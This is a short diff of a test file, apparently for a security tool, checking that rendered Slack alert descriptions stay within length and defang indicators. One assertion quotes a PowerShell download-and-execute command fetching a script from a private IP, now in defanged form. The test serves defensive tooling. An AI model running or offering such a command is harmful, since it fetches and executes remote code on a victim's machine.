@@ -20,7 +20,7 @@ describe('Chatbot descriptions fit one Slack section', () => {
     const d = renderChatbot(makeFinding(), makeContext()).content.description;
     expect(d.length).toBeLessThanOrEqual(3_000);
     expect(d).not.toMatch(MARKER);
-    expect(d).toContain('iex (iwr http://10.0.0.5/a.ps1)');
+    expect(d).toContain('iex (iwr hxxp://10[.]0[.]0[.]5/a.ps1)');
   });
 
   it('cuts a 2,500-character payload to fit, keeps the facts and the drill-down, and says how much is missing', () => {
